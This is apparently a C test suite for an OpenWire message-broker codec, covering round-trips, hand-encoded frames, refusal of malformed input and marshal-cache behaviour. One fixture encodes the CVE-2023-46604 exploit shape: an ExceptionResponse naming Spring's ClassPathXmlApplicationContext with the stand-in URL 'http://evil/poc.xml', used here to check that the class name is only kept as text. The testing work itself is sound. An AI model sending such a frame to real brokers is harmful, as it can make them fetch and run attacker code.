/* The OpenWire codec (broker/openwire/openwire_codec.c) against its table:
 * every row with every field set round-trips in loose and tight, in
 * versions 1, 6, 10 and 12, with and without stack traces and the marshal
 * cache; byte sequences written by hand from ActiveMQ's marshallers' field
 * order read as they should and are what the encoder writes; bad input is
 * refused with a reason, never a crash. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "openwire_codec.h"
#include "tap.h"

#define BYTES(s) (const uint8_t *)(s), sizeof(s) - 1

/* ---- every row, every field set ---- */

static struct ow_obj *fill(uint8_t code, int depth);

/* A type a nested field accepts, other than `self` (no endless nesting);
 * 0 when none. */
static uint8_t pick(uint16_t accept, uint8_t self, int salt)
{
	int seen = 0;
	for (int pass = 0; pass < 2; pass++)
		for (int c = 1; c < 256; c++) {
			const struct ow_type *t = ow_type_find((uint8_t)c);
			if (!t || c == self || !(t->klass & accept) || c == OW_WIREFORMAT_INFO || t->since > 1)
				continue;
			if (pass == 1 || seen++ == salt)
				return (uint8_t)c;
		}
	return 0;
}

static void set_str(struct ow_str *s, int i)
{
	static const char *const samples[] = {
		"plain", "caf\xc3\xa9", NULL, "ID:host-1234-5678-1:1", "\xed\xa0\xbd\xed\xb8\x80",
	};
	const char *v = samples[i % 5];
	if (v)
		ow_str_set(s, v, strlen(v));
}

static struct ow_throwable *make_throwable(int with_cause)
{
	struct ow_throwable *t = calloc(1, sizeof *t);
	ow_str_set(&t->class_name, "javax.jms.InvalidClientIDException", 34);
	ow_str_set(&t->message, "Broker: b1 - Client: c1 already connected", 41);
	t->trace = calloc(2, sizeof *t->trace);
	t->ntrace = 2;
	ow_str_set(&t->trace[0].class_name, "org.apache.activemq.broker.Broker", 33);
	ow_str_set(&t->trace[0].method, "addConnection", 13);
	t->trace[0].line = 42;
	ow_str_set(&t->trace[1].file, "Thread.java", 11);
	t->trace[1].line = -1;
	if (with_cause)
		t->cause = make_throwable(0);
	return t;
}

static const int64_t longs[] = { 0, 0x1234, 0x12345678, 0x123456789abcLL, -1, 0xffff, 0x10000 };

static void fill_field(struct ow_obj *o, const struct ow_type *t, const struct ow_field *f, int i,
		       int depth)
{
	char *at = (char *)o + f->off;
	struct ow_obj *p;
	switch (f->kind) {
	case OWF_BOOL: *(bool *)at = i % 3 != 1; break;
	case OWF_BYTE: *(int8_t *)at = (int8_t)(i * 37 - 100); break;
	case OWF_INT: *(int32_t *)at = i % 2 ? -i : 100000 + i; break;
	case OWF_LONG: *(int64_t *)at = longs[i % 7]; break;
	case OWF_STRING: set_str((struct ow_str *)at, i); break;
	case OWF_BYTES: {
		struct ow_bytes *b = (struct ow_bytes *)at;
		b->data = malloc(7);
		memcpy(b->data, "b\0dy\xff", 6);
		b->len = i % 4 == 3 ? 0 : 5;
		break;
	}
	case OWF_MAGIC: memcpy(at, "ActiveMQ", 8); break;
	case OWF_NESTED:
	case OWF_CACHED: {
		uint8_t c = depth < 3 ? pick(f->accept, t->code, i) : 0;
		p = c ? fill(c, depth + 1) : NULL;
		memcpy(at, &p, sizeof p);
		break;
	}
	case OWF_ARRAY: {
		uint8_t c = depth < 3 ? pick(f->accept, t->code, i) : 0;
		struct ow_array *a = (struct ow_array *)at;
		if (!c)
			break;
		a->n = 3;
		a->v = calloc(3, sizeof *a->v);
		a->v[0] = fill(c, depth + 1);
		a->v[2] = fill(c, depth + 1);
		break;
	}
	case OWF_THROWABLE:
		*(struct ow_throwable **)at = make_throwable(1);
		break;
	}
}

static struct ow_obj *fill(uint8_t code, int depth)
{
	const struct ow_type *t = ow_type_find(code);
	struct ow_obj *o = ow_obj_new(code);
	int i = code;
	for (const struct ow_field *f = t->fields; f->name; f++)
		fill_field(o, t, f, i++, depth);
	return o;
}

struct setting {
	int version;
	bool tight, stack_trace, cache;
};

static void setup(struct ow_format *f, const struct setting *s)
{
	ow_format_init(f);
	f->version = s->version;
	f->tight = s->tight;
	f->stack_trace = s->stack_trace;
	if (s->cache)
		ow_format_cache(f, 64);
}

/* Writer and reader each have their own format, as the two ends do. The
 * writer sends the structure twice (with the cache, the second time
 * replaces what the first put there); a second writer in the same state
 * must write what was read back to the same bytes. */
static bool round_trip(uint8_t code, const struct setting *s, char *why, size_t whylen)
{
	struct ow_format wf, rf, wf2;
	setup(&wf, s);
	setup(&rf, s);
	setup(&wf2, s);
	struct ow_obj *o = fill(code, 0);
	char err[OW_ERR_MAX];
	bool good = true;
	for (int round = 0; round < 2 && good; round++) {
		struct buf a = BUF_INIT, b = BUF_INIT;
		struct ow_obj *back = NULL;
		if (ow_encode(&wf, o, &a) < 0) {
			snprintf(why, whylen, "encode failed");
			good = false;
		} else if (ow_decode(&rf, (uint8_t *)buf_data(&a) + 4, buf_len(&a) - 4, &back, err) < 0) {
			snprintf(why, whylen, "decode: %s", err);
			good = false;
		} else if (ow_encode(&wf2, back, &b) < 0 || buf_len(&a) != buf_len(&b) ||
			   memcmp(buf_data(&a), buf_data(&b), buf_len(&a))) {
			snprintf(why, whylen, "what was read encodes differently (%zu and %zu bytes)",
				 buf_len(&a), buf_len(&b));
			good = false;
		}
		ow_obj_free(back);
		buf_free(&a);
		buf_free(&b);
	}
	ow_obj_free(o);
	ow_format_release(&wf);
	ow_format_release(&rf);
	ow_format_release(&wf2);
	return good;
}

static const struct setting settings[] = {
	{ 12, false, false, false }, { 12, true, false, false }, { 12, true, true, false },
	{ 12, false, true, true }, { 12, true, true, true }, { 10, true, false, false },
	{ 6, false, true, false }, { 6, true, false, true }, { 1, false, false, false },
	{ 1, true, true, false },
};

static void every_row(void)
{
	int rows = 0;
	for (int c = 1; c < 256; c++) {
		const struct ow_type *t = ow_type_find((uint8_t)c);
		if (!t || !(t->klass & OWC_COMMAND))
			continue;
		rows++;
		for (size_t i = 0; i < sizeof settings / sizeof settings[0]; i++) {
			const struct setting *s = &settings[i];
			char name[200], why[200] = "";
			if (s->version < t->since)
				continue;	/* see types_by_version() */
			snprintf(name, sizeof name, "%s round-trips (version %d, %s%s%s)", t->name,
				 s->version, s->tight ? "tight" : "loose",
				 s->stack_trace ? ", stack traces" : "", s->cache ? ", cache" : "");
			if (!ok(round_trip((uint8_t)c, s, why, sizeof why), name))
				diag("%s", why);
		}
	}
	ok(rows >= 31, "every command row was tried");
}

/* ---- bytes written by hand from ActiveMQ's field order ---- */

static struct ow_obj *read_frame(bool tight, int version, const uint8_t *p, size_t len,
				 char err[OW_ERR_MAX])
{
	struct ow_format f;
	struct ow_obj *o = NULL;
	ow_format_init(&f);
	f.tight = tight;
	f.version = version;
	/* p includes the size prefix, as on the wire */
	if (ow_decode(&f, p + 4, len - 4, &o, err) < 0)
		o = NULL;
	ow_format_release(&f);
	return o;
}

static bool writes_as(bool tight, int version, const struct ow_obj *o, const uint8_t *p,
		      size_t len)
{
	struct ow_format f;
	struct buf b = BUF_INIT;
	ow_format_init(&f);
	f.tight = tight;
	f.version = version;
	bool same = ow_encode(&f, o, &b) == 0 && buf_len(&b) == len && !memcmp(buf_data(&b), p, len);
	if (!same) {
		printf("# wrote:");
		for (size_t i = 0; i < buf_len(&b); i++)
			printf(" %02x", (uint8_t)buf_data(&b)[i]);
		printf("\n");
	}
	buf_free(&b);
	return same;
}

/* Response: commandId, responseRequired, correlationId. */
static const char response_loose[] =
	"\x00\x00\x00\x0a" "\x1e" "\x00\x00\x00\x07" "\x00" "\x00\x00\x00\x05";
/* Tight: the one boolean goes into a one-byte BooleanStream. */
static const char response_tight[] =
	"\x00\x00\x00\x0b" "\x1e" "\x01\x00" "\x00\x00\x00\x07" "\x00\x00\x00\x05";

/* ConnectionInfo (version 12), connection id "ID:a", client id "c", the
 * rest null or false. Bits: responseRequired, connectionId present,
 * its value present and one-byte, clientId present and one-byte,
 * password, userName, brokerPath, the five booleans, clientIp. */
static const char conninfo_tight[] =
	"\x00\x00\x00\x12" "\x03" "\x02\x3f\x00" "\x00\x00\x00\x01"
	"\x78" "\x00\x04" "ID:a" "\x00\x01" "c";
static const char conninfo_loose[] =
	"\x00\x00\x00\x1c" "\x03" "\x00\x00\x00\x01" "\x01"
	"\x01\x78" "\x01\x00\x04" "ID:a" "\x01\x00\x01" "c" "\x00\x00" "\x00"
	"\x00\x00\x00\x00\x00" "\x00";
/* The same in version 1: no clientMaster, faultTolerant,
 * failoverReconnect or clientIp. */
static const char conninfo_loose_v1[] =
	"\x00\x00\x00\x18" "\x03" "\x00\x00\x00\x01" "\x01"
	"\x01\x78" "\x01\x00\x04" "ID:a" "\x01\x00\x01" "c" "\x00\x00" "\x00"
	"\x00\x00";

/* RemoveInfo of session (c, 0x10000) with lastDeliveredSequenceId -1:
 * longs by size class, 4 bytes (bits 1,0) and 8 bytes (1,1). Bits:
 * rr 0, objectId present 1, connectionId present 1 and one-byte 1,
 * value 1 0, lastDelivered 1 1: 0b11011110. */
static const char remove_tight[] =
	"\x00\x00\x00\x17" "\x0c" "\x01\xde" "\x00\x00\x00\x02"
	"\x79" "\x00\x01" "c" "\x00\x01\x00\x00" "\xff\xff\xff\xff\xff\xff\xff\xff";

/* ExceptionResponse, loose, no stack traces: a throwable is a presence
 * byte, a class name and a message. The class name is the one
 * CVE-2023-46604 used to make brokers load a Spring context. */
#define EVIL "org.springframework.context.support.ClassPathXmlApplicationContext"
static const char exception_loose[] =
	"\x00\x00\x00\x66" "\x1f" "\x00\x00\x00\x03" "\x00" "\x00\x00\x00\x02"
	"\x01" "\x01\x00\x42" EVIL "\x01\x00\x13" "http://evil/poc.xml";

static void hand_made(void)
{
	char err[OW_ERR_MAX] = "";
	struct ow_obj *o;
	struct ow_response *r;

	o = read_frame(false, 12, BYTES(response_loose), err);
	r = (void *)o;
	ok(o && o->type == OW_RESPONSE && r->c.command_id == 7 && !r->c.response_required &&
	   r->correlation_id == 5, "loose Response reads by hand");
	ok(o && writes_as(false, 12, o, BYTES(response_loose)), "loose Response writes the same");
	ok(o && writes_as(true, 12, o, BYTES(response_tight)), "tight Response: one-byte BooleanStream");
	ow_obj_free(o);
	o = read_frame(true, 12, BYTES(response_tight), err);
	ok(o && ((struct ow_response *)o)->correlation_id == 5, "tight Response reads by hand");
	ow_obj_free(o);

	o = read_frame(true, 12, BYTES(conninfo_tight), err);
	struct ow_connection_info *ci = (void *)o;
	ok(o && o->type == OW_CONNECTION_INFO && ci->c.command_id == 1 && ci->c.response_required &&
	   ci->connection_id && !strcmp(ci->connection_id->value.s, "ID:a") &&
	   !strcmp(ci->client_id.s, "c") && !ci->password.s && !ci->user_name.s &&
	   !ci->broker_path.v && !ci->client_ip.s, "tight ConnectionInfo reads by hand");
	if (!o)
		diag("%s", err);
	ok(o && writes_as(true, 12, o, BYTES(conninfo_tight)), "tight ConnectionInfo writes the same");
	ok(o && writes_as(false, 12, o, BYTES(conninfo_loose)), "loose ConnectionInfo: a byte per boolean");
	ok(o && writes_as(false, 1, o, BYTES(conninfo_loose_v1)),
	   "version 1 ConnectionInfo has none of the fields added since");
	ow_obj_free(o);
	o = read_frame(false, 1, BYTES(conninfo_loose_v1), err);
	ok(o && !strcmp(((struct ow_connection_info *)o)->client_id.s, "c"),
	   "version 1 ConnectionInfo reads by hand");
	ow_obj_free(o);

	o = read_frame(true, 12, BYTES(remove_tight), err);
	struct ow_remove_info *ri = (void *)o;
	struct ow_session_id *sid = ri ? (void *)ri->object_id : NULL;
	ok(o && sid && sid->h.type == OW_SESSION_ID && sid->value == 0x10000 &&
	   ri->last_delivered_sequence_id == -1, "tight longs: 4 bytes unsigned, 8 bytes signed");
	ok(o && writes_as(true, 12, o, BYTES(remove_tight)), "tight RemoveInfo writes the same");
	ow_obj_free(o);

	o = read_frame(false, 12, BYTES(exception_loose), err);
	struct ow_exception_response *er = (void *)o;
	ok(o && er->exception && !strcmp(er->exception->class_name.s, EVIL) &&
	   !strcmp(er->exception->message.s, "http://evil/poc.xml") && !er->exception->trace,
	   "ExceptionResponse: a throwable's class name is kept as text, nothing more");
	ok(o && writes_as(false, 12, o, BYTES(exception_loose)), "loose ExceptionResponse writes the same");
	ow_obj_free(o);
}

/* ---- refusals ---- */

struct bad {
	const char *name;
	bool tight;
	const char *bytes;	/* the frame without its size prefix */
	size_t len;
	const char *reason;	/* part of the error */
};

#define ZERO8 "\x00\x00\x00\x00\x00\x00\x00\x00"
#define BAD(name, tight, bytes, reason) { name, tight, bytes, sizeof(bytes) - 1, reason }

static const struct bad bads[] = {
	BAD("an unknown data type code", false, "\xc8\x00", "unknown data type 200"),
	BAD("the null type", false, "\x00", "unknown data type 0"),
	BAD("a known type without a row yet", false, "\x1d\x00\x00\x00\x01\x00",
	    "29 (ActiveMQBlobMessage) is not supported"),
	BAD("an id where a command goes", false, "\x78\x00", "(ConnectionId) does not belong here"),
	BAD("a ConnectionId where a destination goes", false,
	    /* commandId, rr, producerId (null connection id, two zero longs), destination */
	    "\x06\x00\x00\x00\x01\x00" "\x01\x7b\x00" ZERO8 ZERO8 "\x01\x78\x00",
	    "ProducerInfo.destination: data type 120 (ConnectionId) does not belong here"),
	BAD("a truncated Response", false, "\x1e\x00\x00\x00\x07\x00\x00\x00", "Response.correlation_id: truncated"),
	BAD("bytes left over", false, "\x1e\x00\x00\x00\x07\x00\x00\x00\x00\x05\x99", "1 bytes left over"),
	BAD("an empty BooleanStream", true, "\x1e\x00\x00\x00\x00\x07\x00\x00\x00\x05",
	    "boolean stream exhausted"),
	BAD("a BooleanStream of negative length", true, "\x1e\x80\xff\xff", "negative length"),
	BAD("a BooleanStream longer than the frame", true, "\x1e\x30\x00", "truncated"),
	BAD("a one-byte string of negative length", true,
	    "\x03\x01\x3f\x00\x00\x00\x01\x78\xff\xff", "negative length"),
	BAD("a string longer than the frame", false,
	    "\x03\x00\x00\x00\x01\x01\x01\x78\x01\xff\xff" "ID", "truncated"),
	BAD("malformed modified UTF-8", false,
	    "\x03\x00\x00\x00\x01\x01\x01\x78\x01\x00\x02\xff\x41", "malformed modified UTF-8"),
	BAD("an array longer than the frame", false,
	    "\x03\x00\x00\x00\x01\x00\x00\x00\x00\x00\x01\x7f\xff\x00",
	    "ConnectionInfo.broker_path: array of 32767 elements"),
	BAD("an array of negative length", false,
	    "\x03\x00\x00\x00\x01\x00\x00\x00\x00\x00\x01\x80\x00",
	    "array of negative length"),
	BAD("a MessageDispatch with a cached marshalled form", true,
	    /* bits: rr 0, consumerId and destination absent, message present,
	     * a cached form follows */
	    "\x15\x01\x18\x00\x00\x00\x01" "\x1c", "cached marshalled form of ActiveMQTextMessage"),
	BAD("a ConsumerInfo whose network filter is cut short", false,
	    /* commandId, rr, consumerId, browser, destination, prefetch, maximum
	     * pending, dispatchAsync, selector, clientId, subscriptionName, noLocal,
	     * exclusive, retroactive, priority, brokerPath: all zero or null */
	    "\x05" ZERO8 ZERO8 ZERO8 "\x00" "\x01\x5b",
	    "NetworkBridgeFilter.network_broker_id: truncated"),
};

static void refusals(void)
{
	for (size_t i = 0; i < sizeof bads / sizeof bads[0]; i++) {
		const struct bad *b = &bads[i];
		struct ow_format f;
		struct ow_obj *o = (void *)1;
		char err[OW_ERR_MAX] = "";
		ow_format_init(&f);
		f.tight = b->tight;
		int rc = ow_decode(&f, (const uint8_t *)b->bytes, b->len, &o, err);
		char name[200];
		snprintf(name, sizeof name, "refused: %s", b->name);
		if (!ok(rc == -1 && o == NULL && strstr(err, b->reason), name))
			diag("rc %d, err '%s', expected '%s'", rc, err, b->reason);
		ow_format_release(&f);
	}
}

/* A byte sequence whose length says more than the frame holds is refused
 * before the length is allocated. */
static void long_content(void)
{
	struct ow_format f;
	ow_format_init(&f);
	struct ow_message *m = (void *)ow_obj_new(OW_TEXT_MESSAGE);
	m->content.data = malloc(4);
	memcpy(m->content.data, "abcd", 4);
	m->content.len = 4;
	struct buf b = BUF_INIT;
	ow_encode(&f, &m->c.h, &b);
	/* The content's length sits right after its presence byte: find "abcd". */
	uint8_t *p = memmem(buf_data(&b), buf_len(&b), "abcd", 4);
	p[-4] = 0x7f, p[-3] = 0xff, p[-2] = 0xff, p[-1] = 0xff;
	struct ow_obj *o;
	char err[OW_ERR_MAX] = "";
	ok(ow_decode(&f, (uint8_t *)buf_data(&b) + 4, buf_len(&b) - 4, &o, err) < 0 &&
	   strstr(err, "content: byte sequence of 2147483647 bytes"),
	   "refused: a byte sequence longer than the frame");
	buf_free(&b);
	ow_obj_free(&m->c.h);
	ow_format_release(&f);
}

/* Messages inside advisories inside messages...: refused past a depth
 * instead of recursing as deep as the frame allows. */
static void deep_nesting(void)
{
	struct ow_obj *top = NULL;
	for (int i = 0; i < 40; i++) {
		struct ow_message *m = (void *)ow_obj_new(OW_MESSAGE);
		m->data_structure = top;
		top = &m->c.h;
	}
	for (int tight = 0; tight < 2; tight++) {
		struct ow_format f;
		ow_format_init(&f);
		f.tight = tight;
		struct buf b = BUF_INIT;
		struct ow_obj *o;
		char err[OW_ERR_MAX] = "";
		ok(ow_encode(&f, top, &b) == 0 &&
		   ow_decode(&f, (uint8_t *)buf_data(&b) + 4, buf_len(&b) - 4, &o, err) < 0 &&
		   strstr(err, "nested deeper than 16"),
		   tight ? "refused: tight nesting 40 deep" : "refused: loose nesting 40 deep");
		buf_free(&b);
		ow_format_release(&f);
	}
	ow_obj_free(top);
}

/* With the cache: an index outside the negotiated size, and a reference
 * to an entry of the wrong type, are refused; a reference to an entry
 * reads it. */
static void cache_refusals(void)
{
	struct ow_format f;
	ow_format_init(&f);
	ow_format_cache(&f, 4);
	struct ow_obj *o = NULL;
	char err[OW_ERR_MAX] = "";
	/* SessionInfo, loose: commandId, rr, new=1, index 9 */
	static const char out_of_range[] = "\x04\x00\x00\x00\x01\x00\x01\x00\x09\x01\x79\x00\x00\x00\x00\x00\x00\x00\x00\x00";
	ok(ow_decode(&f, BYTES(out_of_range), &o, err) < 0 && strstr(err, "cache index 9 outside 0..3"),
	   "refused: a marshal cache index past the negotiated size");
	/* index 1 := SessionId, then a ProducerInfo refers to it as its id */
	static const char put[] = "\x04\x00\x00\x00\x01\x00\x01\x00\x01\x01\x79\x01\x00\x01" "c" "\x00\x00\x00\x00\x00\x00\x00\x05";
	ok(ow_decode(&f, BYTES(put), &o, err) == 0, "a SessionInfo puts its id in the cache");
	struct ow_obj *sid = o ? &((struct ow_session_info *)o)->session_id->h : NULL;
	ow_obj_free(o);
	static const char again[] = "\x04\x00\x00\x00\x02\x00\x00\x00\x01";
	ok(ow_decode(&f, BYTES(again), &o, err) == 0 && o &&
	   &((struct ow_session_info *)o)->session_id->h == sid &&
	   ((struct ow_session_info *)o)->session_id->value == 5,
	   "a reference reads the cached SessionId");
	ow_obj_free(o);
	static const char wrong[] = "\x06\x00\x00\x00\x03\x00\x00\x00\x01";
	ok(ow_decode(&f, BYTES(wrong), &o, err) < 0 && strstr(err, "producer_id: data type 121"),
	   "refused: a cached SessionId used as a ProducerId");
	ow_format_release(&f);
}

/* ---- the writer's marshal cache ---- */

static void str_of(struct ow_str *s, const char *v)
{
	s->len = (uint32_t)strlen(v);
	s->s = malloc(s->len + 1);
	memcpy(s->s, v, s->len + 1);
}

/* A MessageDispatch of new structures each time, as the handler makes
 * them for each message; dest NULL for none. */
static struct ow_obj *dispatch_of(int64_t consumer, const char *dest, const char *group)
{
	struct ow_message_dispatch *d = (void *)ow_obj_new(OW_MESSAGE_DISPATCH);
	d->consumer_id = (void *)ow_obj_new(OW_CONSUMER_ID);
	str_of(&d->consumer_id->connection_id, "ID:host-1-2-1:1");
	d->consumer_id->session_id = 1;
	d->consumer_id->value = consumer;
	if (dest) {
		d->destination = (void *)ow_obj_new(OW_QUEUE);
		str_of(&d->destination->physical_name, dest);
	}
	d->message = (void *)ow_obj_new(OW_TEXT_MESSAGE);
	d->message->destination = (void *)ow_obj_ref((struct ow_obj *)d->destination);
	if (group)
		str_of(&d->message->group_id, group);
	return &d->c.h;
}

/* Writes o through the cached writer w, reads it with the reader r and
 * says whether what was read is what was sent: both written without the
 * cache give the same bytes. *len is the cached frame's length. */
static bool through_cache(struct ow_format *w, struct ow_format *r, struct ow_obj *o, size_t *len)
{
	struct ow_format plain;
	ow_format_init(&plain);
	plain.tight = w->tight;
	struct buf a = BUF_INIT, x = BUF_INIT, y = BUF_INIT;
	struct ow_obj *back = NULL;
	char err[OW_ERR_MAX] = "";
	bool good = ow_encode(w, o, &a) == 0 &&
		ow_decode(r, (uint8_t *)buf_data(&a) + 4, buf_len(&a) - 4, &back, err) == 0 &&
		ow_encode(&plain, o, &x) == 0 && ow_encode(&plain, back, &y) == 0 &&
		buf_len(&x) == buf_len(&y) && !memcmp(buf_data(&x), buf_data(&y), buf_len(&x));
	if (err[0])
		diag("%s", err);
	*len = buf_len(&a);
	ow_obj_free(back);
	buf_free(&a);
	buf_free(&x);
	buf_free(&y);
	return good;
}

/* A writer and a reader of one encoding, both with a cache of `size`. */
static void cached_pair(struct ow_format *w, struct ow_format *r, bool tight, uint16_t size)
{
	ow_format_init(w);
	ow_format_init(r);
	w->tight = r->tight = tight;
	ow_format_cache(w, size);
	ow_format_cache(r, size);
}

/* As ActiveMQ's OpenWireFormat: a structure with the content of one sent
 * before goes as its index, so the Java client takes it from its cache
 * instead of decoding it; a reader with its own cache reads every frame
 * back as sent, as the writer's few slots are taken over in turn; a frame
 * that failed to encode leaves nothing the reader would miss. */
static void writer_cache(void)
{
	for (int tight = 0; tight < 2; tight++) {
		struct ow_format w, r;
		cached_pair(&w, &r, tight, 4);
		size_t first, second, len;
		struct ow_obj *a = dispatch_of(7, "orders", NULL), *b = dispatch_of(7, "orders", NULL);
		ok(through_cache(&w, &r, a, &first) && through_cache(&w, &r, b, &second) &&
		   second + strlen("ID:host-1-2-1:1") + strlen("orders") < first,
		   tight ? "tight: a dispatch to the same consumer and queue again goes as cache indexes"
			 : "loose: a dispatch to the same consumer and queue again goes as cache indexes");
		diag("%zu bytes, then %zu", first, second);
		ow_obj_free(a);
		ow_obj_free(b);
		bool all = true;
		static const char *const dests[] = { "a", "b", NULL, "c" };
		for (int i = 0; i < 200 && all; i++) {
			struct ow_obj *o = dispatch_of(i * 7 % 10, dests[i % 4], NULL);
			all = through_cache(&w, &r, o, &len);
			ow_obj_free(o);
		}
		ok(all, tight ? "tight: 200 dispatches over 40 consumer and queue pairs through 4 slots read back as sent"
			      : "loose: 200 dispatches over 40 consumer and queue pairs through 4 slots read back as sent");
		ow_format_release(&w);
		ow_format_release(&r);
	}

	/* A group id too long for the tight form fails the frame after its
	 * consumer id and queue took slots: the next frame sends them anew. */
	struct ow_format w, r;
	cached_pair(&w, &r, true, 8);
	char *huge = malloc(40000);
	memset(huge, 'g', 39999);
	huge[39999] = 0;
	struct ow_obj *bad = dispatch_of(3, "fail", huge), *good = dispatch_of(3, "fail", NULL);
	struct buf b = BUF_INIT;
	size_t len;
	ok(ow_encode(&w, bad, &b) < 0 && buf_len(&b) == 0 && through_cache(&w, &r, good, &len),
	   "a frame that failed to encode: what it cached is sent in full with the next");
	buf_free(&b);
	free(huge);
	ow_obj_free(bad);
	ow_obj_free(good);
	ow_format_release(&w);
	ow_format_release(&r);
}

/* The negotiated 1,024 slots are allocated as they are used: none at
 * first, then as many as the structures sent; every structure sent is
 * still found again after the slots grew (and were chained anew). */
static void growing_cache(void)
{
	struct ow_format w, r;
	cached_pair(&w, &r, true, 1024);
	ok(w.cache_size == 1024 && w.out_cap == 0 && r.in_cap == 0,
	   "a negotiated cache allocates no slot before the first is used");
	bool all = true;
	size_t len, first = 0, again = 0;
	char dest[32];
	for (int pass = 0; pass < 2 && all; pass++)
		for (int i = 0; i < 300 && all; i++) {
			snprintf(dest, sizeof dest, "queue.%d", i);
			struct ow_obj *o = dispatch_of(i, dest, NULL);
			all = through_cache(&w, &r, o, &len);
			*(pass ? &again : &first) += len;
			ow_obj_free(o);
		}
	ok(all && again + 300 * strlen("queue.100") < first,
	   "300 consumers and queues, twice: all read back, the second time as indexes");
	ok(w.out_cap == 1024 && r.in_cap == 1024 && w.out_added == 601,
	   "the slots grew to the negotiated size as they were used");
	diag("%zu bytes, then %zu; %u and %u slots", first, again, w.out_cap, r.in_cap);
	ow_format_release(&w);
	ow_format_release(&r);
}

/* ProducerAck came with version 3, MessagePull with 2: older peers
 * neither send nor get them. */
static void types_by_version(void)
{
	struct ow_format f;
	ow_format_init(&f);
	f.version = 2;
	struct ow_obj *ack = ow_obj_new(OW_PRODUCER_ACK), *o;
	struct buf b = BUF_INIT;
	ok(ow_encode(&f, ack, &b) < 0 && buf_len(&b) == 0, "no ProducerAck is written in version 2");
	static const char frame[] = "\x13\x00\x00\x00\x01\x00\x00\x00\x00\x00\x05";
	char err[OW_ERR_MAX] = "";
	ok(ow_decode(&f, BYTES(frame), &o, err) < 0 &&
	   strstr(err, "19 (ProducerAck) is not in OpenWire version 2"),
	   "refused: a ProducerAck in version 2");
	f.version = 3;
	ok(ow_decode(&f, BYTES(frame), &o, err) == 0 && ((struct ow_producer_ack *)o)->size == 5,
	   "read: the same ProducerAck in version 3");
	ow_obj_free(o);
	ow_obj_free(ack);
	buf_free(&b);
}

int main(void)
{
	every_row();
	types_by_version();
	hand_made();
	refusals();
	long_content();
	deep_nesting();
	cache_refusals();
	writer_cache();
	growing_cache();
	return done_testing();
}
